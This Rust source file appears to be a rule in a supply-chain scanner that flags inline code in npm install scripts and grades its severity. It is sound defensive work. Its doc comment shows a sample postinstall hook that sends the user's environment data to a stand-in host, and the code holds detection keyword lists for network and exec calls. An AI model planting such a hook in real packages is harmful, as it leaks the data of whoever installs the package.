use ossprey_model::{Category, Finding, Severity};
use ossprey_static::facts::shell::RunTarget;

use super::common::{host_data, install_commands, is_js_exec, is_js_network};
use crate::rules::catalog::{CODE_EVAL, is};
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds inline code in npm install scripts: `node -e '…'`, `python -c '…'`,
/// `sh -c '…'`, `powershell -c '…'`. Inline JavaScript is read with the JavaScript
/// parser: code that starts programs, opens network connections or reads the
/// environment raises the finding to high, and code that does that together with
/// host data or a shell to critical. Trivial loaders (`node -e "require('./x')"`)
/// are not reported (the install-script rule already lists the hook).
///
/// ## Why is this bad?
/// Inline code keeps the install-time behaviour out of the package's files, where
/// reviewers and file-based scanners look. Malware uses it to fit a whole beacon or
/// dropper into one `package.json` line.
///
/// ## Example
/// ```json
/// { "scripts": { "postinstall": "node -e \"require('https').get('https://example.invalid/?'+process.env.USER)\"" } }
/// ```
#[derive(Debug)]
pub struct HookInlineCode;

/// Severity and a description for one piece of inline JavaScript.
fn judge_js(code: &str) -> Option<(Severity, String)> {
    let facts = ossprey_static::facts::js::extract("inline.js", code);
    let exec = facts.calls.iter().find(|c| is_js_exec(&c.callee));
    let net = facts.calls.iter().find(|c| is_js_network(&c.callee));
    let eval = facts
        .calls
        .iter()
        .find(|c| is(CODE_EVAL, &c.callee) && c.callee != "setTimeout");
    let env = facts
        .calls
        .iter()
        .any(|c| c.callee == ossprey_static::facts::js::PROCESS_ENV);
    let host = host_data(&facts);
    let host_any = !host.strong.is_empty() || host.whole_env.is_some();
    let caps: Vec<&str> = [exec, net, eval]
        .iter()
        .flatten()
        .map(|c| c.callee.as_str())
        .collect();
    let trivial = facts.calls.iter().all(|c| {
        c.callee == "require"
            && c.args
                .first()
                .and_then(|a| a.as_str())
                .is_some_and(|m| m.starts_with('.'))
            || c.callee.starts_with("console.")
            || c.callee == "process.exit"
    });
    // `eval(Buffer.from("…", "base64").toString())`: code hidden even on the command line.
    let decoded_eval = eval.is_some_and(|c| {
        matches!(
            c.args.first(),
            Some(ossprey_static::facts::Arg::Call { .. })
        ) || c
            .args
            .last()
            .is_some_and(|a| matches!(a, ossprey_static::facts::Arg::Call { .. }))
    });
    let severity = if (net.is_some() && (env || host_any))
        || (exec.is_some() && net.is_some())
        || decoded_eval
        || super::wipes_files::evidence(&facts).is_some()
    {
        Severity::Critical
    } else if !caps.is_empty() || host_any {
        Severity::High
    } else if trivial {
        return None;
    } else {
        Severity::Medium
    };
    let what = if caps.is_empty() {
        "inline JavaScript".to_owned()
    } else {
        format!("inline JavaScript calling `{}`", caps.join("`, `"))
    };
    Some((severity, what))
}

/// Judges a file run by `node` that the file analysis did not read as JavaScript.
fn unparsed_script(input: &Input<'_>, target: &str) -> Option<(Severity, String)> {
    let rel = target.trim_start_matches("./");
    let root = input.files.root();
    let file = input.facts.files.iter().find(|f| {
        f.path
            .strip_prefix(root)
            .is_some_and(|p| p.trim_start_matches('/') == rel)
    })?;
    if file.source.is_some() {
        return None;
    }
    let content = input.files.content(&file.path)?;
    // A bounded prefix: hook scripts are small, and this is a second parse.
    let text = String::from_utf8_lossy(content.get(..content.len().min(1 << 20))?);
    let (severity, what) = judge_js(&text)?;
    Some((
        severity,
        format!(
            "`{rel}`, not named as JavaScript: {}",
            what.replace("inline ", "")
        ),
    ))
}

fn judge_python(code: &str) -> Option<(Severity, String)> {
    let net = ["urllib", "requests", "socket", "http.client"]
        .iter()
        .any(|m| code.contains(m));
    let exec = ["subprocess", "os.system", "os.popen", "exec(", "eval("]
        .iter()
        .any(|m| code.contains(m));
    let env = [
        "environ",
        "gethostname",
        "getuser",
        "getlogin",
        "platform.node",
        "uname",
    ]
    .iter()
    .any(|m| code.contains(m));
    let severity = match (net, exec || env) {
        (true, true) => Severity::Critical,
        (true, false) | (false, true) => Severity::High,
        _ => Severity::Medium,
    };
    Some((severity, "inline Python".to_owned()))
}

impl Rule for HookInlineCode {
    fn id(&self) -> &'static str {
        "NPM-HOOK-INLINE-CODE"
    }
    fn category(&self) -> Category {
        Category::EXECUTION
    }
    fn summary(&self) -> &'static str {
        "inline code in an npm install script"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for script in install_commands(input) {
            for run in &script.shell.runs {
                let interp = run.interpreter.as_str();
                if let RunTarget::File(target) = &run.target
                    && matches!(interp, "node" | "nodejs")
                {
                    // `node lib/run`: a script without a `.js` extension is not parsed as
                    // JavaScript by the file analysis, so read it here.
                    if let Some((severity, what)) = unparsed_script(input, target) {
                        out.push(script.finding(
                            self,
                            severity,
                            format!("`{}` script runs {what}", script.name),
                        ));
                    }
                    continue;
                }
                let RunTarget::Inline(code) = &run.target else {
                    continue;
                };
                let judged = match interp {
                    "node" | "nodejs" | "bun" | "deno" => judge_js(code),
                    i if i.starts_with("python") => judge_python(code),
                    // Shell bodies are parsed into the script's commands; the network and
                    // download rules judge what they do. Here they only note the hiding.
                    "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" => {
                        Some((Severity::Medium, "an inline shell script".to_owned()))
                    }
                    _ => Some((Severity::Medium, format!("inline `{interp}` code"))),
                };
                let Some((severity, what)) = judged else {
                    continue;
                };
                out.push(finding(
                    self.id(),
                    severity,
                    self.category(),
                    format!("`{}` runs {what}", script.name),
                    Some(script.path),
                    script.line.or(Some(run.line)),
                    Some(code),
                ));
            }
        }
    }
}
